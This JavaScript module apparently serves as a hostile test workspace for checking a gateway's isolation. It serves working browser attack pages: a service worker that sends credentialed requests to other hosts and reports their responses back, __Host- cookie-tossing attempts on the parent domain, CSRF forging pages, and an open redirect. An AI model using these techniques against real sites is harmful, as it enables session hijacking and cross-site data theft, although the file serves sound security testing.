// A workspace that keeps every byte it gets, and serves pages that try what they can.
import { createHash } from 'node:crypto';
import { createServer as createHttp } from 'node:http';
import { connect, createServer } from 'node:net';

// Starts one. `gate` is asked for the addresses of other hosts by name.
export async function startWorkspace(name, gate) {
  const bytes = [];
  const reports = [];
  const http = createHttp((request, response) => serve(name, gate, reports, request, response));
  http.on('upgrade', echo);
  await new Promise((resolve) => http.listen(0, '127.0.0.1', resolve));
  // In front of whatever parses: nothing can be missing from the recording.
  const front = createServer((socket) => {
    const inner = connect(http.address().port, '127.0.0.1');
    socket.on('data', (data) => bytes.push(data));
    socket.pipe(inner).pipe(socket);
    for (const end of [socket, inner]) end.on('error', () => { socket.destroy(); inner.destroy(); });
  });
  await new Promise((resolve) => front.listen(0, '127.0.0.1', resolve));
  return {
    name,
    port: front.address().port,
    reports,
    recording: () => Buffer.concat(bytes).toString('latin1'),
    close: () => { front.close(); http.closeAllConnections(); http.close(); },
  };
}

function serve(name, gate, reports, request, response) {
  const url = new URL(request.url, 'http://workspace');
  const body = [];
  request.on('data', (data) => body.push(data)).on('end', () => {
    const text = Buffer.concat(body).toString();
    const page = pages[url.pathname];
    if (url.pathname === '/report') {
      reports.push(text);
      response.end('noted');
    } else if (page) {
      page(response, gate, request);
    } else {
      response.setHeader('content-type', 'text/html; charset=utf-8');
      const user = request.headers['x-forwarded-user'] ?? 'anonymous';
      response.end(`<!doctype html><title>${name}</title><h1>workspace ${name}</h1><p id="user">${user}</p>`
        + `<pre id="url">${request.url.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</pre>`);
    }
  });
}

const html = (response, text) => response.setHeader('content-type', 'text/html').end(`<!doctype html>${text}`);

const pages = {
  '/sw.js': (response, gate) => response.setHeader('content-type', 'text/javascript').end(`
    const tell = (what) => fetch('/report', { method: 'POST', body: JSON.stringify(what) });
    self.addEventListener('install', () => self.skipWaiting());
    self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
    self.addEventListener('fetch', (event) => {
      const { url, mode, headers } = event.request;
      if (url.endsWith('/report')) return;
      event.respondWith((async () => {
        // Sends its visitor elsewhere, where the page said so.
        if (url.endsWith('/misled') && self.elsewhere) return Response.redirect(self.elsewhere);
        tell({ saw: url, mode, headers: [...headers] });
        const answer = await fetch(event.request);
        tell({ answered: answer.url, type: answer.type, headers: [...answer.headers] });
        return answer;
      })());
    });
    self.addEventListener('message', (event) => event.waitUntil((async () => {
      if (event.data !== 'go') { self.elsewhere = event.data; event.source.postMessage('done'); return; }
      for (const url of ${JSON.stringify(gate.targets())}) {
        for (const mode of ['cors', 'no-cors']) {
          for (const method of ['GET', 'POST']) {
            try {
              const answer = await fetch(url, { mode, method, credentials: 'include', redirect: 'follow' });
              const text = await answer.text();
              await tell({ reached: url, mode, method, type: answer.type, status: answer.status, text });
            } catch (error) {
              await tell({ failed: url, mode, method });
            }
          }
        }
      }
      event.source.postMessage('done');
    })()));
  `),
  '/worker': (response) => html(response, `<title>worker</title><p id="state">waiting</p><script>
    (async () => {
      await navigator.serviceWorker.register('/sw.js', { scope: '/' });
      await navigator.serviceWorker.ready;
      const state = document.querySelector('#state');
      navigator.serviceWorker.addEventListener('message', () => { state.textContent = 'done'; });
      state.textContent = 'ready';
      window.attack = async () => (await navigator.serviceWorker.ready).active.postMessage('go');
      window.mislead = async (url) => {
        const heard = new Promise((done) => navigator.serviceWorker.addEventListener('message', done, { once: true }));
        (await navigator.serviceWorker.ready).active.postMessage(url);
        await heard;
      };
    })().catch((error) => { document.querySelector('#state').textContent = String(error); });
  </script>`),
  '/cookies': (response, gate) => {
    const parent = gate.parent();
    response.setHeader('set-cookie', [
      'mine=1; Path=/; Secure',
      '__Host-identity=evil; Path=/; Secure',
      `__Host-identity=evil; Path=/; Secure; Domain=${parent}`,
      `__Host-identity_login=evil; Path=/; Secure; Domain=${parent}`,
      `__Host-identity_pre=evil; Path=/; Secure; Domain=${parent}`,
      `__host-identity=evil; Path=/; Secure; Domain=${parent}`,
      `=__Host-identity=evil; Path=/; Secure; Domain=${parent}`,
      `__Host-identity; Path=/; Secure; Domain=${parent}`,
      `identity=evil; Path=/; Secure; Domain=${parent}`,
    ]);
    html(response, `<title>cookies</title><p id="state">waiting</p><script>
      for (const name of ['__Host-identity', '__Host-identity_login', '__Host-identity_pre', '__host-identity', '=__Host-identity']) {
        for (const more of ['', '; Domain=${parent}', '; Domain=gate.test']) {
          document.cookie = name + '=evil; Path=/; Secure' + more;
        }
      }
      document.querySelector('#state').textContent = document.cookie;
    </script>`);
  },
  // What a page of another port uses.
  '/api': (response, gate, request) => response.setHeader('content-type', 'application/json').end(JSON.stringify({
    method: request.method, user: request.headers['x-forwarded-user'], origin: request.headers.origin, csrf: request.headers['x-csrf'],
  })),
  '/events': (response, gate, request) => response.setHeader('content-type', 'text/event-stream')
    .write(`data: ${request.headers['x-forwarded-user']}\n\n`),
  '/pixel.svg': (response) => response.setHeader('content-type', 'image/svg+xml')
    .end('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'),
  '/lib.js': (response) => response.setHeader('content-type', 'text/javascript').end('window.loaded = (window.loaded ?? 0) + 1;'),
  // Answers CORS itself, as an app does that knows its front end.
  '/own': (response, gate, request) => {
    response.setHeader('access-control-allow-origin', request.headers.origin ?? '*');
    response.setHeader('access-control-allow-credentials', 'true');
    response.setHeader('access-control-allow-headers', 'x-csrf');
    response.setHeader('access-control-allow-methods', 'PUT');
    response.setHeader('access-control-expose-headers', 'x-own');
    response.setHeader('x-own', 'yes');
    response.end(JSON.stringify({ user: request.headers['x-forwarded-user'] }));
  },
  // Lets every other origin read what it may have, as far as a workspace can.
  '/open': (response) => {
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('timing-allow-origin', '*');
    response.end('open');
  },
  '/away': (response, gate, request) => response.writeHead(307, {
    location: new URL(request.url, 'http://workspace').searchParams.get('to'),
    'access-control-allow-origin': request.headers.origin ?? '*',
    'access-control-allow-credentials': 'true',
    'access-control-allow-headers': 'x-csrf',
    'access-control-allow-methods': 'PUT',
  }).end(),
  '/relay.js': (response) => response.setHeader('content-type', 'text/javascript').end(`
    self.addEventListener('install', () => self.skipWaiting());
    self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
    const seen = [];
    self.addEventListener('fetch', (event) => { seen.push(event.request.url); });
    self.addEventListener('message', (event) => event.waitUntil((async () => {
      const results = [];
      for (const [url, options] of event.data) {
        try {
          const answer = await fetch(url, options);
          results.push([answer.type, answer.status, await answer.text()]);
        } catch (error) { results.push(['error', String(error)]); }
      }
      event.ports[0].postMessage({ results, seen });
    })()));
  `),
  '/relay': (response) => html(response, `<title>relay</title><p id="state">waiting</p><script>
    (async () => {
      await navigator.serviceWorker.register('/relay.js', { scope: '/' });
      await navigator.serviceWorker.ready;
      window.relay = async (calls) => {
        const channel = new MessageChannel();
        const heard = new Promise((done) => { channel.port1.onmessage = ({ data }) => done(data); });
        (await navigator.serviceWorker.ready).active.postMessage(calls, [channel.port2]);
        return heard;
      };
      document.querySelector('#state').textContent = 'ready';
    })().catch((error) => { document.querySelector('#state').textContent = String(error); });
  </script>`),
  // Pages of other hosts can be asked for in many ways that need no permission to read the answer.
  '/forge': (response, gate) => html(response, `<title>forge</title><p id="state">waiting</p>
    <iframe name="frame"></iframe><script>
    (async () => {
      for (const url of ${JSON.stringify(gate.targets())}) {
        await fetch(url + '?forged=get', { mode: 'no-cors', credentials: 'include' }).catch(() => {});
        await fetch(url + '?forged=post', { mode: 'no-cors', credentials: 'include', method: 'POST', body: 'x' }).catch(() => {});
        await new Promise((done) => {
          const image = new Image();
          image.onload = image.onerror = done;
          image.src = url + '?forged=image';
        });
        await new Promise((done) => {
          const script = document.createElement('script');
          script.onload = script.onerror = done;
          script.src = url + '?forged=script';
          document.head.append(script);
        });
        await new Promise((done) => {
          const form = document.createElement('form');
          Object.assign(form, { method: 'post', action: url + '?forged=form', target: 'frame' });
          document.body.append(form);
          document.querySelector('iframe').addEventListener('load', done, { once: true });
          form.submit();
        });
      }
      document.querySelector('#state').textContent = 'done';
    })();
  </script>`),
};

// A WebSocket that says every text back (RFC 6455), as far as short frames of a client go.
function echo(request, socket) {
  const key = createHash('sha1').update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`);
  socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n'
    + `Sec-WebSocket-Accept: ${key.digest('base64')}\r\n\r\n`);
  socket.on('error', () => {});
  socket.on('data', (frame) => {
    const length = frame[1] & 0x7f;
    if ((frame[0] & 0xf) !== 1) { socket.end(); return; }
    const mask = frame.subarray(2, 6);
    const said = frame.subarray(6, 6 + length).map((byte, at) => byte ^ mask[at % 4]);
    socket.write(Buffer.concat([Buffer.from([0x81, length]), said]));
  });
}
